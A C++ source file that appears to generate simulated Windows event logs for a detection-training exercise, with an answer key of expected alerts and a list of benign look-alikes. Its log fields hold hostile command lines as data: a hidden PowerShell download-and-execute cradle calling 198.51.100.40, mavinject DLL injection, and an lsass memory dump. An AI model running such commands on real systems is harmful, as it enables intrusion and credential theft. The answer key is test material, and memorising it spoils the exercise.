// SPDX-License-Identifier: MIT
#include "demogenerator.h"


#include <algorithm>
#include <cstdio>
#include <map>
#include <utility>

namespace dscope::model {

namespace {

// 2026-03-10 07:30:00 UTC: the simulated working day starts here.
constexpr int64_t kDayStartMs = 1773127800000;
constexpr int64_t kHourMs = 3'600'000;

/// SplitMix64: small, fast, and the same sequence everywhere (std distributions differ between libraries).
class Random
{
public:
    explicit Random(uint64_t seed) : m_state(seed * 0x9e3779b97f4a7c15ULL + 0x5eed) {}
    uint64_t next()
    {
        uint64_t z = (m_state += 0x9e3779b97f4a7c15ULL);
        z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
        z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
        return z ^ (z >> 31);
    }
    /// 0 .. n-1 (n > 0); the modulo bias is irrelevant at these sizes.
    int64_t below(int64_t n) { return int64_t(next() % uint64_t(n)); }
    int64_t between(int64_t lo, int64_t hi) { return lo + below(hi - lo + 1); }
    template <typename T>
    const T& pick(const std::vector<T>& v) { return v[size_t(below(int64_t(v.size())))]; }

private:
    uint64_t m_state;
};

std::string utcText(int64_t ms)
{
    const int64_t days = ms / 86'400'000, inDay = ms % 86'400'000;
    // Civil date from days since 1970-01-01 (Howard Hinnant's algorithm).
    const int64_t z = days + 719468, era = z / 146097, doe = z - era * 146097;
    const int64_t yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365, doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    const int64_t mp = (5 * doy + 2) / 153, d = doy - (153 * mp + 2) / 5 + 1, m = mp < 10 ? mp + 3 : mp - 9;
    const int64_t y = yoe + era * 400 + (m <= 2 ? 1 : 0);
    char buf[96];
    std::snprintf(buf, sizeof buf, "%04lld-%02lld-%02lld %02lld:%02lld:%02lld.%03lld", (long long)y, (long long)m,
                  (long long)d, (long long)(inDay / kHourMs), (long long)(inDay / 60000 % 60),
                  (long long)(inDay / 1000 % 60), (long long)(inDay % 1000));
    return buf;
}

std::string jsonEscaped(const std::string& s)
{
    std::string out;
    out.reserve(s.size() + 8);
    for (char c : s) {
        if (c == '"' || c == '\\')
            out += '\\';
        out += c;
    }
    return out;
}

/// One event as a flat JSON object, fields in the order given.
class EventLine
{
public:
    EventLine(bool security, const std::string& host, int eventId, int64_t utcMs) : m_utcMs(utcMs), m_eventId(eventId)
    {
        add("SourceName", security ? "Microsoft-Windows-Security-Auditing" : "Microsoft-Windows-Sysmon");
        add("Channel", security ? "Security" : "Microsoft-Windows-Sysmon/Operational");
        add("Hostname", host);
        add("Simulated", "yes");
        m_text += ",\"EventID\":" + std::to_string(eventId);
        add("UtcTime", utcText(utcMs));
    }
    EventLine& add(const char* key, const std::string& value)
    {
        m_text += (m_text.empty() ? "{\"" : ",\"") + std::string(key) + "\":\"" + jsonEscaped(value) + '"';
        return *this;
    }
    int64_t utcMs() const { return m_utcMs; }
    int eventId() const { return m_eventId; }
    std::string text() const { return m_text + '}'; }

private:
    int64_t m_utcMs;
    int m_eventId;
    std::string m_text;
};

struct Process {
    std::string guid; ///< with braces, as Sysmon writes it
    int pid = 0;
    std::string image;
    std::string user;
};

std::string bare(const std::string& guid)
{
    std::string g = guid.substr(1, guid.size() - 2);
    std::transform(g.begin(), g.end(), g.begin(), [](unsigned char c) { return char(std::tolower(c)); });
    return g;
}

std::string hex(int64_t v)
{
    char buf[24];
    std::snprintf(buf, sizeof buf, "0x%llx", (long long)v);
    return buf;
}

/// Builds the case: the hosts' processes, their events, and the answer key.
class Writer
{
public:
    Writer(const DemoOptions& o, std::vector<int> missing) : m_random(o.seed), m_options(o), m_missing(std::move(missing)) {}

    DemoCase run();

private:
    struct Host {
        std::string name;
        int index = 0;
        std::string ip;
        Process system, csrss, services, lsass, wininit, defender, wmi;
        std::vector<Process> svchosts;
        std::map<std::string, Process> explorers; ///< by user
        std::vector<Process> running;             ///< user applications, for handles and console threads
    };

    Process newProcess(Host& h, const std::string& image, const std::string& user)
    {
        ++m_counter;
        char guid[64];
        std::snprintf(guid, sizeof guid, "{de70c0de-%04x-69ef-%04x-%012llx}", unsigned(h.index), unsigned(m_counter & 0xffff),
                      (unsigned long long)(0x100000 + m_counter));
        return {guid, int(4 * m_random.between(100, 9000)), image, user};
    }
    void record(const EventLine& e, bool attack = false)
    {
        // What the exercise's logging does not collect is never written.
        if (std::find(m_missing.begin(), m_missing.end(), e.eventId()) != m_missing.end())
            return;
        m_events.emplace_back(e.utcMs(), e.text());
        if (attack)
            ++m_attackEvents;
    }
    Process start(Host& h, int64_t t, const Process& parent, const std::string& image, const std::string& commandLine,
                  const std::string& user, bool attack = false);
    void loadImages(Host& h, int64_t t, const Process& p, int count);
    void access(Host& h, int64_t t, const Process& source, const Process& target, const std::string& mask,
                const std::string& callTrace, bool attack = false);
    void remoteThread(Host& h, int64_t t, const Process& source, const Process& target, const std::string& startAddress,
                      const std::string& module, const std::string& function, bool attack = false);
    void transaction(Host& h, int64_t t, const Process& p, const std::string& transactionId, int state, bool attack = false);
    void logon(Host& h, int64_t t, const std::string& user, int type, const std::string& fromIp, bool attack = false);

    void boot(Host& h);
    void ordinaryActivity(Host& h, int64_t t);
    void doppelganging(Host& h, int64_t t);
    void remoteThreadInjection(Host& h, int64_t t);
    void dllInjection(Host& h, int64_t t);
    void credentialDump(Host& h, int64_t t, const Process& parent, const std::string& tool, const std::string& attack);
    void lateralMovement(Host& from, Host& to, int64_t t);
    /// Notes a kind of look-alike once per host.
    void plant(const Host& h, const std::string& what)
    {
        for (const LookAlike& l : m_lookAlikes)
            if (l.host == h.name && l.what == what)
                return;
        m_lookAlikes.push_back({h.name, what});
    }
    void expect(const std::string& rule, const Host& h, const Process* source, const Process& target, const std::string& attack)
    {
        // The events each rule cannot do without: an exercise that lacks them cannot expect the alert.
        static const std::map<std::string, std::vector<int>> needs{{"R1", {10, 8}}, {"R2", {8}}, {"R3", {25}}, {"R4", {10}},
                                                                   {"R5", {1}}, {"R6", {4985, 1}}, {"R8", {10}}};
        for (int id : needs.at(rule))
            if (std::find(m_missing.begin(), m_missing.end(), id) != m_missing.end())
                return;
        m_key.push_back({rule, h.name, source ? bare(source->guid) : std::string(), bare(target.guid), attack,
                         source ? source->image : std::string(), target.image});
    }

    Random m_random;
    DemoOptions m_options;
    std::vector<int> m_missing; ///< event ids the exercise's logging does not collect
    std::vector<Host> m_hosts;
    std::vector<std::pair<int64_t, std::string>> m_events;
    std::vector<ExpectedAlert> m_key;
    std::vector<LookAlike> m_lookAlikes;
    int64_t m_attackEvents = 0;
    Process m_ghost; ///< the doppelgänged process: later the attacker's base for moving on
    uint32_t m_counter = 0;
    int64_t m_record = 0;
    const std::vector<std::string> m_users{"alice", "bob", "carol", "dave", "erin"};
};

Process Writer::start(Host& h, int64_t t, const Process& parent, const std::string& image, const std::string& commandLine,
                      const std::string& user, bool attack)
{
    Process p = newProcess(h, image, user);
    EventLine e(false, h.name, 1, t);
    e.add("ProcessGuid", p.guid).add("ProcessId", std::to_string(p.pid)).add("Image", image).add("CommandLine", commandLine);
    e.add("User", user).add("ParentProcessGuid", parent.guid).add("ParentProcessId", std::to_string(parent.pid));
    e.add("ParentImage", parent.image);
    char hash[80];
    std::snprintf(hash, sizeof hash, "SHA256=%064llx", (unsigned long long)(std::hash<std::string>{}(image) & 0xffffffffffffULL));
    e.add("Hashes", hash);
    record(e, attack);
    return p;
}

void Writer::loadImages(Host& h, int64_t t, const Process& p, int count)
{
    static const std::vector<std::string> dlls{"ntdll.dll", "kernel32.dll", "KernelBase.dll", "user32.dll", "advapi32.dll",
                                               "ws2_32.dll", "crypt32.dll", "ole32.dll", "combase.dll", "shell32.dll"};
    for (int i = 0; i < count; ++i) {
        EventLine e(false, h.name, 7, t + 5 * i);
        e.add("ProcessGuid", p.guid).add("ProcessId", std::to_string(p.pid)).add("Image", p.image);
        e.add("ImageLoaded", "C:\\Windows\\System32\\" + dlls[size_t(i) % dlls.size()]).add("Signed", "true");
        record(e);
    }
}

void Writer::access(Host& h, int64_t t, const Process& source, const Process& target, const std::string& mask,
                    const std::string& callTrace, bool attack)
{
    EventLine e(false, h.name, 10, t);
    e.add("SourceProcessGUID", source.guid).add("SourceProcessId", std::to_string(source.pid)).add("SourceImage", source.image);
    e.add("TargetProcessGUID", target.guid).add("TargetProcessId", std::to_string(target.pid)).add("TargetImage", target.image);
    e.add("GrantedAccess", mask).add("CallTrace", callTrace);
    record(e, attack);
}

void Writer::remoteThread(Host& h, int64_t t, const Process& source, const Process& target, const std::string& startAddress,
                          const std::string& module, const std::string& function, bool attack)
{
    EventLine e(false, h.name, 8, t);
    e.add("SourceProcessGuid", source.guid).add("SourceProcessId", std::to_string(source.pid)).add("SourceImage", source.image);
    e.add("TargetProcessGuid", target.guid).add("TargetProcessId", std::to_string(target.pid)).add("TargetImage", target.image);
    e.add("NewThreadId", std::to_string(m_random.between(1000, 9999) * 4)).add("StartAddress", startAddress);
    e.add("StartModule", module).add("StartFunction", function);
    record(e, attack);
}

void Writer::transaction(Host& h, int64_t t, const Process& p, const std::string& transactionId, int state, bool attack)
{
    EventLine e(true, h.name, 4985, t);
    e.add("ProcessId", hex(p.pid)).add("ProcessName", p.image).add("TransactionId", transactionId);
    e.add("NewState", std::to_string(state)).add("SubjectUserName", p.user.substr(p.user.find('\\') + 1));
    e.add("SubjectDomainName", "DEMO");
    record(e, attack);
}

void Writer::logon(Host& h, int64_t t, const std::string& user, int type, const std::string& fromIp, bool attack)
{
    EventLine e(true, h.name, 4624, t);
    e.add("TargetUserName", user).add("TargetDomainName", "DEMO").add("LogonType", std::to_string(type));
    e.add("IpAddress", fromIp).add("LogonProcessName", type == 3 ? "NtLmSsp" : "User32");
    e.add("TargetLogonId", hex(0x3e7000 + m_random.between(1, 0xfffff)));
    record(e, attack);
}

void Writer::boot(Host& h)
{
    const int64_t t = kDayStartMs - 20 * 60000 + h.index * 7000;
    Process none{"{00000000-0000-0000-0000-000000000000}", 0, "", ""};
    h.system = {"{de70c0de-" + std::string(4 - std::to_string(h.index).size(), '0') + std::to_string(h.index) + "-69ef-0000-000000000004}",
                4, "System", "NT AUTHORITY\\SYSTEM"};
    const std::string system32 = "C:\\Windows\\System32\\";
    Process smss = start(h, t, h.system, system32 + "smss.exe", "\\SystemRoot\\System32\\smss.exe", "NT AUTHORITY\\SYSTEM");
    h.csrss = start(h, t + 400, smss, system32 + "csrss.exe", "%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows", "NT AUTHORITY\\SYSTEM");
    h.wininit = start(h, t + 500, smss, system32 + "wininit.exe", "wininit.exe", "NT AUTHORITY\\SYSTEM");
    h.services = start(h, t + 700, h.wininit, system32 + "services.exe", "C:\\Windows\\system32\\services.exe", "NT AUTHORITY\\SYSTEM");
    h.lsass = start(h, t + 720, h.wininit, system32 + "lsass.exe", "C:\\Windows\\system32\\lsass.exe", "NT AUTHORITY\\SYSTEM");
    for (int i = 0; i < 6; ++i)
        h.svchosts.push_back(start(h, t + 900 + 40 * i, h.services, system32 + "svchost.exe",
                                   "C:\\Windows\\system32\\svchost.exe -k " + std::vector<std::string>{"DcomLaunch", "RPCSS", "netsvcs", "LocalService", "NetworkService", "wsappx"}[size_t(i)],
                                   "NT AUTHORITY\\SYSTEM"));
    h.defender = start(h, t + 1500, h.services, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe",
                       "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe\"", "NT AUTHORITY\\SYSTEM");
    h.wmi = start(h, t + 2000, h.svchosts[0], system32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding", "NT AUTHORITY\\NETWORK SERVICE");
    (void)none;
}

void Writer::ordinaryActivity(Host& h, int64_t t)
{
    static const std::vector<std::pair<std::string, std::string>> apps{
        {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""},
        {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\""},
        {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n"},
        {"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\""},
        {"C:\\Windows\\System32\\notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\""},
        {"C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\""},
        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoLogo"},
        {"C:\\Program Files\\7-Zip\\7zFM.exe", "\"C:\\Program Files\\7-Zip\\7zFM.exe\""}};
    const bool workstation = !h.explorers.empty();
    const int64_t roll = m_random.below(100);
    if (roll < 30 && workstation) { // a user starts an application
        const auto& [user, explorer] = *std::next(h.explorers.begin(), 0);
        const auto& [image, commandLine] = m_random.pick(apps);
        Process p = start(h, t, explorer, image, commandLine, "DEMO\\" + user);
        loadImages(h, t + 30, p, int(m_random.between(2, 5)));
        if (image.find("chrome") != std::string::npos || image.find("OUTLOOK") != std::string::npos) {
            EventLine e(false, h.name, 3, t + 900);
            e.add("ProcessGuid", p.guid).add("ProcessId", std::to_string(p.pid)).add("Image", image).add("Protocol", "tcp");
            e.add("DestinationIp", "203.0.113." + std::to_string(m_random.between(2, 250))).add("DestinationPort", "443");
            e.add("User", "DEMO\\" + user);
            record(e);
        }
        if (image.find("cmd.exe") != std::string::npos || image.find("powershell.exe") != std::string::npos) {
            // Ctrl+C in a console: csrss starts CtrlRoutine in it, a remote thread every console program gets.
            if (m_random.below(3) == 0) {
                remoteThread(h, t + m_random.between(5000, 60000), h.csrss, p, hex(0x7ffea99b61e0),
                             "C:\\Windows\\System32\\KERNELBASE.dll", "CtrlRoutine");
                plant(h, "csrss.exe starts CtrlRoutine in a console program (a remote thread in a system module)");
            }
        }
        h.running.push_back(p);
        if (h.running.size() > 40)
            h.running.erase(h.running.begin());
        EventLine end(false, h.name, 5, t + m_random.between(60000, 40 * 60000));
        end.add("ProcessGuid", p.guid).add("ProcessId", std::to_string(p.pid)).add("Image", image).add("User", "DEMO\\" + user);
        record(end);
    } else if (roll < 45) { // a system task
        const Process& host = m_random.pick(h.svchosts);
        Process p = start(h, t, host, "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", "NT AUTHORITY\\SYSTEM");
        loadImages(h, t + 20, p, 2);
        EventLine end(false, h.name, 5, t + m_random.between(2000, 20000));
        end.add("ProcessGuid", p.guid).add("ProcessId", std::to_string(p.pid)).add("Image", p.image);
        record(end);
    } else if (roll < 55) { // service and network logons
        logon(h, t, m_random.below(2) ? "SYSTEM" : "svc_backup", m_random.below(2) ? 5 : 3,
              m_random.below(2) ? "-" : "10.20.0." + std::to_string(m_random.between(20, 29)));
    } else if (roll < 65) { // the security product scans processes, lsass among them
        const Process& target = h.running.empty() || m_random.below(3) == 0 ? h.lsass : m_random.pick(h.running);
        plant(h, target.guid == h.lsass.guid ? "Defender (MsMpEng.exe) opens lsass.exe with 0x1410"
                                              : "Defender (MsMpEng.exe) opens user programs with 0x1000");
        access(h, t, h.defender, target, target.guid == h.lsass.guid ? "0x1410" : "0x1000",
               "C:\\Windows\\SYSTEM32\\ntdll.dll+9d204|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\mpengine.dll+1b2f3");
    } else if (roll < 70) { // WMI queries lsass's process information
        plant(h, "WmiPrvSE.exe queries lsass.exe (0x1400)");
        access(h, t, h.wmi, h.lsass, "0x1400", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d204|C:\\Windows\\System32\\wbem\\cimwin32.dll+2f21a");
    } else if (roll < 73) { // an installer writes its files inside a transaction and starts what it installed
        Process msi = start(h, t, h.services, "C:\\Windows\\System32\\msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V", "NT AUTHORITY\\SYSTEM");
        char id[64];
        std::snprintf(id, sizeof id, "{%08llx-1111-4222-8333-%012llx}", (unsigned long long)(m_counter * 7919u), (unsigned long long)t);
        transaction(h, t + 300, msi, id, 48);
        transaction(h, t + 2300, msi, id, 52);
        start(h, t + 4000, msi, "C:\\Windows\\System32\\msiexec.exe", "C:\\Windows\\syswow64\\MsiExec.exe -Embedding 5A3F", "NT AUTHORITY\\SYSTEM");
        plant(h, "msiexec.exe writes inside a KTM transaction and starts a process within the minute");
    } else if (roll < 90) { // network
        const Process& p = m_random.pick(h.svchosts);
        EventLine e(false, h.name, 3, t);
        e.add("ProcessGuid", p.guid).add("ProcessId", std::to_string(p.pid)).add("Image", p.image).add("Protocol", "tcp");
        e.add("DestinationIp", "10.20.0." + std::to_string(m_random.between(1, 9))).add("DestinationPort", m_random.below(2) ? "53" : "445");
        e.add("User", "NT AUTHORITY\\NETWORK SERVICE");
        record(e);
    } else if (roll < 99 || !workstation) { // files
        const Process& p = h.running.empty() ? h.svchosts[2] : m_random.pick(h.running);
        EventLine e(false, h.name, 11, t);
        e.add("ProcessGuid", p.guid).add("ProcessId", std::to_string(p.pid)).add("Image", p.image);
        e.add("TargetFilename", "C:\\Users\\Public\\Documents\\report-" + std::to_string(m_random.between(100, 999)) + ".docx");
        e.add("CreationUtcTime", utcText(t));
        record(e);
    } else { // WMI's performance adapter after the WMI service starts: Sysmon 25 'Image is locked for access'
        Process adap = start(h, t, h.svchosts[2], "C:\\Windows\\System32\\wbem\\WMIADAP.exe", "wmiadap.exe /F /T /R", "NT AUTHORITY\\SYSTEM");
        EventLine e(false, h.name, 25, t + 800);
        e.add("ProcessGuid", adap.guid).add("ProcessId", std::to_string(adap.pid)).add("Image", adap.image);
        e.add("Type", "Image is locked for access").add("User", "NT AUTHORITY\\SYSTEM");
        record(e);
        plant(h, "WMIADAP.exe reports 'Image is locked for access' (Sysmon 25) when WMI starts it");
    }
}

void Writer::doppelganging(Host& h, int64_t t)
{
    const std::string user = h.explorers.begin()->first;
    const Process& explorer = h.explorers.begin()->second;
    const std::string who = "DEMO\\" + user;
    Process viewer = start(h, t, explorer, "C:\\Users\\" + user + "\\Downloads\\invoice_viewer.exe",
                           "\"C:\\Users\\" + user + "\\Downloads\\invoice_viewer.exe\" /open invoice-2291.pdf", who, true);
    {
        EventLine e(false, h.name, 7, t + 110);
        e.add("ProcessGuid", viewer.guid).add("ProcessId", std::to_string(viewer.pid)).add("Image", viewer.image);
        e.add("ImageLoaded", "C:\\Windows\\System32\\ktmw32.dll").add("Signed", "true");
        record(e, true);
    }
    const std::string transactionId = "{7d1f0a9e-5c3b-11f0-9a1c-00155d0000" + std::to_string(10 + h.index) + "}";
    const std::string file = "C:\\Users\\" + user + "\\AppData\\Local\\Temp\\svcupdate.tmp";
    transaction(h, t + 510, viewer, transactionId, 48, true);
    {
        EventLine e(true, h.name, 4656, t + 520);
        e.add("ProcessId", hex(viewer.pid)).add("ProcessName", viewer.image).add("ObjectType", "File").add("ObjectName", file);
        e.add("AccessMask", "0x12019F").add("TransactionId", transactionId).add("SubjectUserName", user).add("SubjectDomainName", "DEMO");
        record(e, true);
        EventLine w(false, h.name, 11, t + 531);
        w.add("ProcessGuid", viewer.guid).add("ProcessId", std::to_string(viewer.pid)).add("Image", viewer.image);
        w.add("TargetFilename", file).add("CreationUtcTime", utcText(t + 531));
        record(w, true);
    }
    transaction(h, t + 750, viewer, transactionId, 52, true);
    transaction(h, t + 762, viewer, transactionId, 56, true);
    // NtCreateProcessEx from the section: the new process has no file name, only the section's.
    Process ghost = newProcess(h, "svcupdate.tmp", who);
    access(h, t + 900, viewer, ghost, "0x1FFFFF", "C:\\Windows\\SYSTEM32\\ntdll.dll+9f7d4|" + viewer.image + "+1a2b3", true);
    {
        EventLine e(false, h.name, 1, t + 1020);
        e.add("ProcessGuid", ghost.guid).add("ProcessId", std::to_string(ghost.pid)).add("Image", ghost.image).add("OriginalFileName", "-");
        e.add("CommandLine", "svchost.exe -k netsvcs").add("User", who).add("ParentProcessGuid", viewer.guid);
        e.add("ParentProcessId", std::to_string(viewer.pid)).add("ParentImage", viewer.image);
        record(e, true);
        EventLine locked(false, h.name, 25, t + 1200);
        locked.add("ProcessGuid", ghost.guid).add("ProcessId", std::to_string(ghost.pid)).add("Image", ghost.image);
        locked.add("Type", "Image is locked for access").add("User", who);
        record(locked, true);
        EventLine net(false, h.name, 3, t + 4500);
        net.add("ProcessGuid", ghost.guid).add("ProcessId", std::to_string(ghost.pid)).add("Image", ghost.image).add("Protocol", "tcp");
        net.add("DestinationIp", "198.51.100.23").add("DestinationPort", "443").add("User", who);
        record(net, true);
    }
    for (const char* rule : {"R3", "R4", "R5"})
        expect(rule, h, &viewer, ghost, "Process Doppelgänging");
    expect("R6", h, nullptr, ghost, "Process Doppelgänging");
    // Minutes later the doppelgänged process reads lsass's memory: credential dumping.
    access(h, t + 6 * 60000, ghost, h.lsass, "0x1010", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d204|UNKNOWN(000001D2A7C61A20)", true);
    expect("R8", h, &ghost, h.lsass, "credential dumping from the doppelgänged process");
    m_ghost = ghost;
}

void Writer::remoteThreadInjection(Host& h, int64_t t)
{
    const auto& [user, explorer] = *h.explorers.begin();
    Process ps = start(h, t, explorer, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                       "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.40/a')\"",
                       "DEMO\\" + user, true);
    access(h, t + 8000, ps, explorer, "0x1F3FFF",
           "C:\\Windows\\SYSTEM32\\ntdll.dll+9c534|C:\\Windows\\System32\\KERNELBASE.dll+2726e|UNKNOWN(00000217B3A20000)", true);
    remoteThread(h, t + 8120, ps, explorer, "0x00000217B3A40000", "-", "-", true);
    expect("R1", h, &ps, explorer, "remote-thread injection");
    expect("R2", h, &ps, explorer, "remote-thread injection");
}

void Writer::dllInjection(Host& h, int64_t t)
{
    const auto& [user, explorer] = *h.explorers.begin();
    const std::string who = "DEMO\\" + user;
    Process notepad = start(h, t - 20 * 60000, explorer, "C:\\Windows\\System32\\notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\"", who);
    Process cmd = start(h, t, explorer, "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"", who, true);
    const std::string dll = "C:\\Users\\" + user + "\\AppData\\Local\\Temp\\uxhelper.dll";
    Process mav = start(h, t + 30000, cmd, "C:\\Windows\\System32\\mavinject.exe",
                        "mavinject.exe " + std::to_string(notepad.pid) + " /INJECTRUNNING " + dll, who, true);
    access(h, t + 30100, mav, notepad, "0x143A", "C:\\Windows\\SYSTEM32\\ntdll.dll+9c534|C:\\Windows\\System32\\KERNELBASE.dll+2726e|C:\\Windows\\System32\\mavinject.exe+1f2c", true);
    remoteThread(h, t + 30140, mav, notepad, "0x00007FFEAB3D0F10", "C:\\Windows\\System32\\KERNEL32.DLL", "LoadLibraryW", true);
    EventLine load(false, h.name, 7, t + 30160);
    load.add("ProcessGuid", notepad.guid).add("ProcessId", std::to_string(notepad.pid)).add("Image", notepad.image);
    load.add("ImageLoaded", dll).add("Signed", "false");
    record(load, true);
    expect("R1", h, &mav, notepad, "mavinject DLL injection");
    expect("R2", h, &mav, notepad, "mavinject DLL injection");
}

void Writer::lateralMovement(Host& from, Host& to, int64_t t)
{
    const std::string user = from.explorers.begin()->first;
    // From the doppelgänged process, over SMB: a network logon, then PsExec's service.
    {
        EventLine e(false, from.name, 3, t - 2000);
        e.add("ProcessGuid", m_ghost.guid).add("ProcessId", std::to_string(m_ghost.pid)).add("Image", m_ghost.image);
        e.add("Protocol", "tcp").add("DestinationIp", to.ip).add("DestinationPort", "445").add("User", m_ghost.user);
        record(e, true);
    }
    logon(to, t, user, 3, from.ip, true);
    Process service = start(to, t + 1500, to.services, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "NT AUTHORITY\\SYSTEM", true);
    Process dumper = start(to, t + 2600, service, "C:\\Windows\\Temp\\pd64.exe", "C:\\Windows\\Temp\\pd64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp",
                           "DEMO\\" + user, true);
    access(to, t + 2900, dumper, to.lsass, "0x1FFFFF", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d204|C:\\Windows\\System32\\dbgcore.DLL+7a1c", true);
    EventLine dump(false, to.name, 11, t + 4200);
    dump.add("ProcessGuid", dumper.guid).add("ProcessId", std::to_string(dumper.pid)).add("Image", dumper.image);
    dump.add("TargetFilename", "C:\\Windows\\Temp\\l.dmp").add("CreationUtcTime", utcText(t + 4200));
    record(dump, true);
    expect("R8", to, &dumper, to.lsass, "credential dumping after lateral movement");
}

DemoCase Writer::run()
{
    const int hostCount = std::max(2, m_options.hosts);
    for (int i = 0; i < hostCount; ++i) {
        Host h;
        h.index = i + 1;
        char name[64];
        if (i + 1 < hostCount)
            std::snprintf(name, sizeof name, "SIMULATED-WS%02d.demo.invalid", i + 1);
        else
            std::snprintf(name, sizeof name, "SIMULATED-SRV01.demo.invalid");
        h.name = name;
        h.ip = "10.20.0." + std::to_string(20 + i);
        m_hosts.push_back(std::move(h));
    }
    for (Host& h : m_hosts)
        boot(h);
    // The users log on to their workstations in the first half hour; the server has only service accounts.
    for (size_t i = 0; i + 1 < m_hosts.size(); ++i) {
        Host& h = m_hosts[i];
        const std::string user = m_users[i % m_users.size()];
        const int64_t t = kDayStartMs + m_random.between(0, 30 * 60000);
        logon(h, t, user, 2, "127.0.0.1");
        Process userinit = start(h, t + 800, h.wininit, "C:\\Windows\\System32\\userinit.exe", "C:\\Windows\\system32\\userinit.exe", "DEMO\\" + user);
        h.explorers[user] = start(h, t + 1500, userinit, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "DEMO\\" + user);
    }
    // The working day: each host's ordinary activities at random moments over ten hours.
    const int64_t perHost = int64_t(m_options.activitiesPerHour) * 10;
    for (Host& h : m_hosts)
        for (int64_t i = 0; i < perHost; ++i)
            ordinaryActivity(h, kDayStartMs + 35 * 60000 + m_random.below(10 * kHourMs - 40 * 60000));
    // The attack, over the afternoon, on the first workstations and then the server.
    Host& ws1 = m_hosts[0];
    Host& ws2 = m_hosts.size() > 2 ? m_hosts[1] : m_hosts[0];
    Host& ws3 = m_hosts.size() > 3 ? m_hosts[2] : ws2;
    Host& server = m_hosts.back();
    const int64_t afternoon = kDayStartMs + 6 * kHourMs + m_random.below(30 * 60000);
    doppelganging(ws1, afternoon);
    remoteThreadInjection(ws2, afternoon + 40 * 60000 + m_random.below(10 * 60000));
    dllInjection(ws3, afternoon + 70 * 60000 + m_random.below(10 * 60000));
    lateralMovement(ws1, server, afternoon + 95 * 60000 + m_random.below(10 * 60000));

    std::stable_sort(m_events.begin(), m_events.end(), [](const auto& a, const auto& b) { return a.first < b.first; });
    DemoCase out;
    out.lines.reserve(m_events.size());
    for (auto& [t, text] : m_events) {
        // Record numbers in time order, per case (a simulated export of one collector).
        text.insert(text.size() - 1, ",\"RecordNumber\":" + std::to_string(++m_record));
        out.lines.push_back(std::move(text));
    }
    out.answerKey = std::move(m_key);
    out.lookAlikes = std::move(m_lookAlikes);
    for (const Host& h : m_hosts)
        out.hosts.push_back(h.name);
    out.attackEvents = m_attackEvents;
    return out;
}

} // namespace

const std::vector<Exercise>& exercises()
{
    static const std::vector<Exercise> list{
        {"guided", "The whole story in full logging: every attack leaves all its traces.", 4, {}},
        {"two-hosts", "One workstation and the server: fewer hosts, every attack on the same machine.", 2, {}},
        {"no-ktm-audit", "File System auditing is off: no Security 4985 or 4656, so the transaction is invisible.", 4, {4985, 4656}},
        {"no-process-access", "The Sysmon configuration drops ProcessAccess (event 10), as many do for volume: no handles, "
                              "so injection shows only in its threads and the doppelgänged process in its creation.", 4, {10}},
    };
    return list;
}

const Exercise* findExercise(const std::string& name)
{
    for (const Exercise& e : exercises())
        if (e.name == name)
            return &e;
    return nullptr;
}

DemoCase generateDemoCase(const DemoOptions& options)
{
    DemoOptions o = options;
    std::vector<int> missing;
    if (const Exercise* e = o.exercise.empty() ? nullptr : findExercise(o.exercise)) {
        o.hosts = e->hosts;
        missing = e->missingEventIds;
    }
    return Writer(o, std::move(missing)).run();
}

} // namespace dscope::model
